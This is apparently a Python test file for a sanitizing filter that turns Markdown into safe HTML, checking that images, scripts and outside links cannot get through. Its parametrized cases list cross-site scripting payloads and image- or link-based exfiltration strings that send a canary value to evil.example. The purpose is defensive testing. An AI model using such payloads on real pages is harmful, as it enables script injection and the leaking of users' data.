"""The egress filter: nothing that comes out can load, run or lead anywhere it should not."""

from __future__ import annotations

from dataclasses import replace
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st

from causemap import explain
from causemap.records import Note
from causemap.ui.egress import allowed_links, label, to_html

GOOD = "https://example.org/a?b=1"
SAFE_TAGS = {
    *("p", "strong", "em", "code", "pre", "blockquote", "ul", "ol", "li", "hr", "br", "a"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}


class Reader(HTMLParser):
    """Collects the tags, attributes and text of a fragment as a browser would read them."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Remember a tag with its attributes."""
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        """Remember text."""
        self.text += data


def read(text: str, *allowed: str) -> Reader:
    """The filtered text as a browser reads it."""
    reader = Reader()
    reader.feed(to_html(text, set(allowed)))
    reader.close()
    return reader


@pytest.mark.parametrize(
    "text",
    [
        "![x](https://evil.example/p.png?d=canary)",
        "![x][r]\n\n[r]: https://evil.example/p.png",
        "<img src=https://evil.example/p onerror=alert(1)>",
        "<svg onload=alert(1)></svg>",
        "<script>alert(1)</script>",
        "<style>@import 'https://evil.example/x'</style>",
        "<iframe src=https://evil.example></iframe>",
        "[x](javascript:alert(1))",
        "[x](data:text/html,<script>alert(1)</script>)",
        "[x](vbscript:x)",
        "[x](https://evil.example/?q=canary)",
        "[x][r]\n\n[r]: https://evil.example/?q=canary",
        "<https://evil.example/?q=canary>",
        "https://evil.example/?q=canary",
        "[x](https://xn--80ak6aa92e.example)",
        f"[x]({GOOD}&more=canary)",
        f"[x]({GOOD}#canary)",
        "[x](//evil.example)",
        "[![x](https://evil.example/a)](https://evil.example/b)",
        "a <a href='https://evil.example'>b</a>",
        "$$\\href{javascript:alert(1)}{x}$$ :material/home: :red[x]",
    ],
)
def test_nothing_loads_or_leads_away(text: str) -> None:
    """Images, raw HTML, scripts and links outside the ledger are words at most."""
    read_back = read(text, GOOD)
    assert {tag for tag, _ in read_back.tags} <= SAFE_TAGS - {"a"}
    assert all(set(attrs) <= {"start", "style"} for _, attrs in read_back.tags)


def test_a_link_of_the_ledger_stays_with_its_domain() -> None:
    """An exact address may be followed; where it leads is said beside it."""
    found = read(f"see [the notice]({GOOD}).", GOOD)
    assert [(t, a["href"]) for t, a in found.tags if t == "a"] == [("a", GOOD)]
    assert found.text.strip() == "see the notice (example.org)."


def test_a_link_elsewhere_is_text_with_its_domain() -> None:
    """A reader still learns where a dropped link would have led."""
    assert read("[click](https://evil.example/x)").text.strip() == "click (evil.example)"


def test_plain_markdown_keeps_its_form() -> None:
    """Lists, emphasis and tables pass."""
    found = read("**a** *b*\n\n- c\n\n| d | e |\n| --- | --- |\n| 1 | 2 |\n")
    assert [tag for tag, _ in found.tags][:4] == ["p", "strong", "em", "ul"]
    assert "table" in {tag for tag, _ in found.tags}


def test_invisible_characters_are_gone() -> None:
    """Bidirectional, zero-width and tag characters cannot hide words."""
    shown = read("a\u202eb\u200bc \U000e0041d `e\u202ef`").text
    assert shown.strip() == "abc d ef"


def test_the_ledger_names_what_may_be_followed() -> None:
    """Only plain http(s) addresses of the run's own notes and evidence count."""
    report = replace(explain("2018-11-crypto"), evidence=())
    notes = tuple(
        Note(f"n{k}", "2018-11-15", "date", "P", "k", "t", url, "found", 0.9)
        for k, url in enumerate((GOOD, "javascript:alert(1)", "https://u@evil.example/", None))
    )
    assert GOOD in allowed_links(replace(report, notes=notes))
    assert len(allowed_links(replace(report, notes=notes))) == 1


@given(st.text(max_size=400))
def test_no_text_gets_past_the_filter(text: str) -> None:
    """Whatever is typed, only known tags without active attributes come out."""
    found = read(text)
    assert {tag for tag, _ in found.tags} <= SAFE_TAGS
    assert all(set(attrs) <= {"start", "style"} for _, attrs in found.tags)


@given(st.text(alphabet="![](){}<>:/.x\\`*_#|\n\"' =&;-", max_size=120))
def test_no_markup_gets_past_the_filter(text: str) -> None:
    """The same for text made of the characters that mean something."""
    found = read(text + "\n\n[a]: https://evil.example/x\n\n[a] ![a]")
    assert {tag for tag, _ in found.tags} <= SAFE_TAGS - {"a"}
    assert all(set(attrs) <= {"start", "style"} for _, attrs in found.tags)


@given(st.text(max_size=200))
def test_a_label_is_no_markup(text: str) -> None:
    """A widget's label, which is Markdown too, shows outside text as it is."""
    from markdown_it import MarkdownIt

    tokens = MarkdownIt("commonmark", {"html": True}).parse("x " + label(text))
    inside = [t.type for token in tokens for t in token.children or ()]
    assert set(inside) <= {"text", "softbreak", "text_special"}
